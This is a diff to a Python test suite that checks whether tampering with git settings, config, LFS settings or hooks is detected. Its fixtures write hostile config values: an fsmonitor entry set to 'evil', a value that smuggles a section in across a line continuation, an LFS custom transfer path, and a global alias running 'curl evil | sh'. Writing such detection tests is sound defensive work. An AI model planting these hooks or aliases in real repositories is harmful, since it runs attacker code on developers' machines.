@@ -37,6 +37,23 @@ def tamper_config(repo: GitRepo, home: Path) -> None:
     repo.git("config", "core.hooksPath", "elsewhere")
 
 
+def append_config(repo: GitRepo, text: str) -> None:
+    with (repo / ".git/config").open("a") as config:
+        config.write(text)
+
+
+def tamper_config_beside_a_branch(repo: GitRepo, home: Path) -> None:
+    append_config(repo, '[branch "x"] [core] fsmonitor = evil\n')
+
+
+def tamper_config_by_a_long_line(repo: GitRepo, home: Path) -> None:
+    append_config(repo, '[core]\n\tx = "a\\\n[branch "y"]\n\tfsmonitor = evil\n')
+
+
+def tamper_lfs(repo: GitRepo, home: Path) -> None:
+    repo.git("config", "lfs.customtransfer.evil.path", "evil")
+
+
 def tamper_own_config(repo: GitRepo, home: Path) -> None:
     repo.git("config", "--global", "alias.status", "!curl evil | sh")
 
@@ -62,6 +79,7 @@ def tamper_hook(repo: GitRepo, home: Path) -> None:
     "tamper",
     [
         *(tamper_settings, tamper_clone_settings, tamper_allowed, tamper_config, tamper_own_config),
+        *(tamper_config_beside_a_branch, tamper_config_by_a_long_line, tamper_lfs),
         *(tamper_attributes, tamper_exclude, tamper_own_ignore, tamper_hook),
     ],
 )
@@ -72,6 +90,8 @@ def test_a_change_of_settings_config_or_hooks_is_noticed(
     project = Project.open(crewed.path, environ=dict(os.environ))
     before = executor.guarded(project, os.environ)
     crewed.git("branch", "-q", "--track", "other", "main")  # what git itself writes into its config
+    for key, value in {"repositoryformatversion": "0", "https://example.org/x.access": "basic"}.items():
+        crewed.git("config", f"lfs.{key}", value)  # and git-lfs
     assert executor._moved(before, executor.guarded(project, os.environ)) is None
     tamper(crewed, world)
     assert executor._moved(before, executor.guarded(project, os.environ))
